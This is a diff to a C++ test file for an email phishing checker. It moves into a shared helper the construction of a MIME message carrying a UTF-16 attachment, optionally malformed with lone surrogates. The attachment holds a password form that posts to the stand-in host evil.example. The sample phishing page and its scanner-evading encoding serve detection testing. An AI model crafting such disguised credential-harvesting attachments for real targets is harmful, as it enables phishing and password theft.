@@ -281,9 +281,10 @@ TEST_F(MessageCheckerTest, DisplayNameWithLookAlikeLettersIsASpoof) {
   EXPECT_EQ(check.verdict.action, Action::kWarn);
 }
 
-TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
-  // The campaign's page in UTF-16LE with a byte-order mark, sent as a
-  // generic octet-stream with no telling file name.
+// The campaign's page in UTF-16LE with a byte-order mark, sent as a
+// generic octet-stream with no telling file name; `broken` puts a lone low
+// surrogate after every '>' and an odd byte at the end.
+std::string Utf16PageMessage(bool broken) {
   const std::string page =
       "<html><body><form action=\"https://evil.example/p\">"
       "<input type=password name=pw></form></body></html>";
@@ -291,8 +292,10 @@ TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
   for (char c : page) {
     utf16.push_back(c);
     utf16.push_back('\0');
+    if (broken && c == '>') utf16.append("\x00\xDC", 2);
   }
-  const std::string message = absl::StrCat(
+  if (broken) utf16.push_back('x');
+  return absl::StrCat(
       "From: a@b.example\r\nMIME-Version: 1.0\r\n"
       "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
       "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
@@ -300,7 +303,10 @@ TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
       "Content-Disposition: attachment; filename=\"scan\"\r\n"
       "Content-Transfer-Encoding: base64\r\n\r\n",
       absl::Base64Escape(utf16), "\r\n--x--\r\n");
-  const MessageCheck check = Check(message);
+}
+
+TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
+  const MessageCheck check = Check(Utf16PageMessage(/*broken=*/false));
   const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
   ASSERT_NE(form, nullptr);
   EXPECT_EQ(form->part, "2");
@@ -309,28 +315,9 @@ TEST_F(MessageCheckerTest, Utf16AttachmentIsReadAsItsBrowserWould) {
 }
 
 TEST_F(MessageCheckerTest, Utf16AttachmentWithABrokenUnitIsStillRead) {
-  // A lone low surrogate, then an odd byte at the end: invalid UTF-16
-  // that a browser shows as U+FFFD. Read as raw bytes instead, the page
-  // had no form to find.
-  const std::string page =
-      "<html><body><form action=\"https://evil.example/p\">"
-      "<input type=password name=pw></form></body></html>";
-  std::string utf16 = "\xFF\xFE";
-  for (char c : page) {
-    utf16.push_back(c);
-    utf16.push_back('\0');
-    if (c == '>') utf16.append("\x00\xDC", 2);
-  }
-  utf16.push_back('x');
-  const std::string message = absl::StrCat(
-      "From: a@b.example\r\nMIME-Version: 1.0\r\n"
-      "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"
-      "Content-Type: text/plain\r\n\r\nsee attached\r\n--x\r\n"
-      "Content-Type: application/octet-stream\r\n"
-      "Content-Disposition: attachment; filename=\"scan\"\r\n"
-      "Content-Transfer-Encoding: base64\r\n\r\n",
-      absl::Base64Escape(utf16), "\r\n--x--\r\n");
-  const MessageCheck check = Check(message);
+  // Invalid UTF-16 that a browser shows as U+FFFD. Read as raw bytes
+  // instead, the page had no form to find.
+  const MessageCheck check = Check(Utf16PageMessage(/*broken=*/true));
   const Reason* form = Find(check.verdict, ReasonCode::kMailCredentialForm);
   ASSERT_NE(form, nullptr);
   EXPECT_EQ(form->url, "https://evil.example/p");
